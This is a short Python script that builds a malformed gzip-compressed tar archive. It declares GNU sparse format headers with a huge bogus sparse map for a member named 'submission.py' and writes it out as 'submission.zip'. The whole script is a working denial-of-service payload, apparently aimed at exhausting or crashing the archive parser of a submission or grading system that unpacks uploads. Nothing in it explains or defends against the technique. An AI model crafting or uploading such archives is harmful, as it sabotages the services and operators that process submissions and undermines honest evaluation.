import gzip, sys, tarfile
said = b'22 GNU.sparse.major=1\n22 GNU.sparse.minor=0\n'
extra, file = tarfile.TarInfo('extra'), tarfile.TarInfo('submission.py')
extra.type, extra.size = tarfile.XHDTYPE, len(said)
data = extra.tobuf() + said.ljust(512, b'\0') + file.tobuf() + b'500000\n' + b'0\n' * 1_000_000
open(sys.argv[1] + '/submission.zip', 'wb').write(gzip.compress(data, 1))
